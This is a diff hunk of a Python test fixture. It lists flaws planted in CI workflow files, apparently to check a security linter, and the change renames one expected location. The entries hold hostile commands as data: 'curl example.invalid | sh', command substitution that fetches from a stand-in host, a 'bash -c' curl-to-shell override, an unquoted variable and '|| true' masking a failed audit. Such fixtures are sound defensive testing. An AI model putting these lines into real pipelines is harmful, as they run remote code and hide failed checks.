@@ -191,7 +191,7 @@ PLANTED: dict[str, tuple[str, str, str, str]] = {
     ),
     "a second command": ("ci.yml", LINT, f"{LINT.rstrip()}; curl example.invalid | sh\n", "ci.yml: lint: run"),
     "a command in a command": ("ci.yml", LINT, f"{LINT.rstrip()} -- $(curl example.invalid)\n", "ci.yml: lint: run"),
-    "a variable that a shell takes apart": ("release.yml", '--tag "$TAG"', "--tag $TAG", "release.yml: announce: run"),
+    "a variable that a shell takes apart": ("release.yml", '--tag "$TAG"', "--tag $TAG", "release.yml: gate: run"),
     "a failure that is none": ("wheels.yml", "-s ci -- audit\n", "-s ci -- audit || true\n", "wheels.yml: build: run"),
     "another shell": ("ci.yml", LINT, f"{LINT}        shell: bash -c 'curl x | sh; {{0}}'\n", "a key of a step"),
     "another shell for all": ("ci.yml", "jobs:\n", "defaults: {run: {shell: x}}\njobs:\n", "ci.yml: a key on top"),
